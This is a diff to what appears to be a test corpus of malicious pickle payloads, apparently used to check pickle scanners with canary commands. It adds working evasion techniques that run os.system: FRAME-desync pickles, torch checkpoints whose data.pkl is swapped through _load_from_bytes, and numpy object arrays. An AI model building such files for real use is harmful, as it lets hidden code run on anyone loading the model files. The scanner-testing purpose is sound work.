@@ -13,6 +13,7 @@ from __future__ import annotations
 
 import functools
 import pickle
+import struct
 import subprocess
 import zlib
 from collections.abc import Callable
@@ -143,6 +144,82 @@ def _corrupt_after_payload(canary: Canary) -> bytes:
     return payload + b"\xff\xfe garbage that is not an opcode \x00\x01"
 
 
+def frame_desync(hidden: bytes, linear_value: str = "weights") -> bytes:
+    """A pickle whose ``hidden`` opcodes run only under a file-object unpickler.
+
+    A BINUNICODE argument crosses the end of its FRAME: ``pickle.loads`` reads the argument
+    linearly (the hidden opcodes are then data of a BINBYTES it skips), while the C unpickler
+    reading a file object (``pickle.load(file)``, ``torch.load`` of ``data.pkl`` from a
+    ``BytesIO``) drops the 6 frame bytes left and reads the argument from after the frame, then
+    continues with ``hidden`` (which starts by popping that string and ends with STOP).
+    """
+    junk = b"ab"
+    declared = len(junk) + 6  # file reading: the string is junk, POP, BINBYTES and its length
+    frame = b"X" + struct.pack("<I", declared) + b"frame!"
+    after = (junk + b"0" + b"B" + struct.pack("<I", len(hidden)) + hidden + b"0"
+             + text(linear_value) + b".")
+    return b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame + after
+
+
+def _frame_desync_call(canary: Canary) -> bytes:
+    return frame_desync(b"0" + _os_system_pickle(canary)[2:])
+
+
+def _frame_desync_next_load(canary: Canary) -> bytes:
+    """A pickle stops inside its FRAME: a file-object unpickler's next load starts after it."""
+    visible = text("weights") + b"." + pickle.dumps({"bias": 0.5}, protocol=2)
+    filler = b"\x00" * 9000  # past what a buffered file peeks: the frame is read whole
+    frame = visible + filler
+    return (b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame
+            + _os_system_pickle(canary))
+
+
+def _torch_zip_bytes(canary: Canary) -> bytes:
+    """A ``torch.save`` zip whose ``data.pkl`` is the payload (what _load_from_bytes reads)."""
+    import io
+    import zipfile
+
+    import torch
+
+    genuine = io.BytesIO()
+    torch.save({"weight": torch.ones(2)}, genuine)
+    out = io.BytesIO()
+    with zipfile.ZipFile(genuine) as source, zipfile.ZipFile(out, "w") as archive:
+        for info in source.infolist():
+            data = source.read(info)
+            archive.writestr(info.filename, _os_system_pickle(canary)
+                             if info.filename.endswith("/data.pkl") else data)
+    return out.getvalue()
+
+
+def _load_from_bytes_zip(canary: Canary) -> bytes:
+    """``pickle.dumps(tensor)``'s own call, on a checkpoint whose data.pkl is the payload."""
+    return assemble(Call(Global("torch.storage", "_load_from_bytes"),
+                         (_torch_zip_bytes(canary),)), 4)
+
+
+def _load_from_bytes_legacy(canary: Canary) -> bytes:
+    """Protocol 2: the bytes are ``_codecs.encode(text, 'latin1')``; torch.load reads a
+    non-zip stream as a legacy checkpoint, whose first pickle is the payload."""
+    padding = b"\x80\x02N0" + b"N0" * 400  # long enough to be a string the scan skips
+    return assemble(Call(Global("torch.storage", "_load_from_bytes"),
+                         (padding + _os_system_pickle(canary)[2:],)), 2)
+
+
+def _npy_object_array(canary: Canary) -> bytes:
+    """A ``.npy`` of an object array: numpy.load(allow_pickle=True) unpickles what follows."""
+    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+    header = header.ljust(64 - 10 - 1) + "\n"
+    return (b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1")
+            + _os_system_pickle(canary))
+
+
+def _numpy_load_embedded(canary: Canary) -> bytes:
+    """numpy.load(io.BytesIO(npy), None, True): allow_pickle given by position."""
+    return assemble(Call(Global("numpy", "load"), (
+        Call(Global("_io", "BytesIO"), (_npy_object_array(canary),)), None, True)), 3)
+
+
 PAYLOADS: list[PicklePayload] = [
     PicklePayload("os-system-proto0", "GLOBAL os.system + REDUCE, text protocol 0",
                   lambda c: assemble(Call(Global("os", "system"), (c.shell,)), protocol=0)),
@@ -231,6 +308,12 @@ PAYLOADS: list[PicklePayload] = [
     PicklePayload("torch-load-nested", "torch.load(io.BytesIO(inner malicious pickle))",
                   lambda c: assemble(Call(Global("torch", "load"), (
                       Call(Global("io", "BytesIO"), (_os_system_pickle(c),)),)), 3)),
+    PicklePayload("load-from-bytes-zip", "torch.storage._load_from_bytes of a checkpoint "
+                  "whose data.pkl is the payload", _load_from_bytes_zip),
+    PicklePayload("load-from-bytes-legacy", "_load_from_bytes(_codecs.encode(text)) of a "
+                  "legacy stream led by the payload (protocol 2)", _load_from_bytes_legacy),
+    PicklePayload("numpy-load-embedded", "numpy.load(BytesIO(.npy object array), None, True)",
+                  _numpy_load_embedded),
     PicklePayload("numpy-testing-runstring", "numpy.testing._private.utils.runstring",
                   lambda c: assemble(Call(Global("numpy.testing._private.utils", "runstring"),
                                           (c.python, {})), 2)),
@@ -266,6 +349,11 @@ PAYLOADS: list[PicklePayload] = [
     PicklePayload("appended-second-pickle", "payload appended after a benign pickle", _appended),
     PicklePayload("corrupt-after-payload", "stream corrupted right after the REDUCE",
                   _corrupt_after_payload),
+    PicklePayload("frame-desync-file-object", "a string crosses its FRAME end: the call runs "
+                  "only under pickle.load of an unbuffered file or BytesIO (torch.load)",
+                  _frame_desync_call),
+    PicklePayload("frame-desync-next-load", "STOP inside a FRAME: the next load of a file "
+                  "object reads a payload after the frame", _frame_desync_next_load),
     PicklePayload("headerless-proto0-txt", "header-less protocol-0 pickle named .txt",
                   lambda c: assemble(Call(Global("os", "system"), (c.shell,)), 0),
                   filename="notes.txt"),
